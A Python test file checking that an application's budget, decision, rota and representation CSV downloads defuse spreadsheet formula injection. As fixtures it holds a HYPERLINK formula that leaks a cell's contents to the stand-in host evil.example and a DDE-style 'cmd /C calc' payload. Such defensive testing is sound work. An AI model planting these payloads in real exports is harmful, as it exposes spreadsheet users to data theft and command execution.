"""Every download meant for a spreadsheet defuses text cells a spreadsheet would run as a
formula (issue 11, point 4; DATA-EXCHANGE.md), plain and "for Excel"; numbers stay numbers,
and reading a downloaded file back gives the original text."""

import pytest

from models import clock
from models.budget import BudgetYear, Post, SubBudget
from models.budget.totals import add_entry
from models.meetings.tables import Meeting, Proposal
from models.organisation import Project
from models.rules.csvfile import read_csv
from tests.conftest import MEMBER_PROJECT

YEAR = clock.today().year
LINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Klik")'
FORMULAS = [LINK, "+SUM(1;2)", "-2+3", "@SUM(A1)", "\tTAB", "'=already"]


def _cells(response) -> list[dict]:
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    raw = response.content
    columns = {name.strip().lower(): False for name in raw.decode("utf-8-sig").splitlines()[0]
               .replace(";", ",").split(",")}  # fmt: skip
    return [row.values for row in read_csv(raw, columns)]


def _no_live_formula(response) -> None:
    text = response.content.decode("utf-8-sig")
    separator = ";" if "excel=1" in str(response.url) else ","
    for line in text.splitlines():
        for cell in line.split(separator):
            cell = cell.strip('"')
            if cell.startswith(("=", "+", "@", "\t", "\r")):
                pytest.fail(f"live formula in {response.url}: {cell!r}")
            if cell.startswith("-") and not cell.replace(",", "").replace(".", "")[1:].isdigit():
                pytest.fail(f"live formula in {response.url}: {cell!r}")


@pytest.mark.parametrize("excel", ["", "&excel=1"])
def test_the_ledger_and_the_summary_download_defuse_formulas(db, as_viewer, excel):
    year = BudgetYear.get(year=YEAR)
    post = Post.create(year=year, name="=1+1", planned_cents=100)
    sub = SubBudget.create(post=post, name="@evil", planned_cents=100)
    for text in FORMULAS:
        add_entry(date=clock.today(), post=post, sub_budget=sub, description=text,
                  amount_cents=-100, kind="spending")  # fmt: skip
    client = as_viewer("member")
    ledger = client.get(f"/budget/export/ledger.csv?year={YEAR}{excel}")
    _no_live_formula(ledger)
    rows = [r for r in _cells(ledger) if r["post"] == "=1+1"]
    assert sorted(r["description"] for r in rows) == sorted(t.strip() for t in FORMULAS)
    assert {r["sub_budget"] for r in rows} == {"@evil"}
    assert {r["amount"] for r in rows} == {"-1,00" if excel else "-1.00"}  # a number still
    summary = client.get(f"/budget/export/budget-summary.csv?year={YEAR}{excel}")
    _no_live_formula(summary)
    assert any(r["post"] == "=1+1" and r["sub_budget"] == "@evil" for r in _cells(summary))


@pytest.mark.parametrize("excel", ["", "?excel=1"])
def test_the_decisions_rota_and_representation_downloads_defuse_formulas(db, as_viewer, excel):
    project = Project.get(Project.name == MEMBER_PROJECT)
    decision = Proposal.select().where(Proposal.state == "closed").first()
    assert decision is not None
    Proposal.update(text=LINK, statement="+31 6 12345678", project=project).where(
        Proposal.id == decision.id
    ).execute()
    Meeting.update(project=project).where(Meeting.id == decision.agenda_item.meeting_id).execute()
    assert Meeting.select().where(
        (Meeting.project == project) & (Meeting.state == "planned")
        & (Meeting.date >= clock.today())
    ).exists()  # fmt: skip
    Project.update(name="-cmd|' /C calc'!A0").where(Project.id == project.id).execute()
    coordinator = as_viewer("coordinator")
    decisions = coordinator.get(f"/projects/{project.id}/decisions.csv{excel}")
    _no_live_formula(decisions)
    rows = _cells(decisions)
    assert [r["proposal"] for r in rows if r["statement"] == "+31 6 12345678"] == [LINK]
    rota = coordinator.get(f"/projects/{project.id}/rota.csv{excel}")
    _no_live_formula(rota)
    assert {r["project"] for r in _cells(rota)} == {"-cmd|' /C calc'!A0"}
    representation = as_viewer("beheer").get(f"/representation.csv{excel}")
    _no_live_formula(representation)
    assert "-cmd|' /C calc'!A0" in {r["scope"] for r in _cells(representation)}
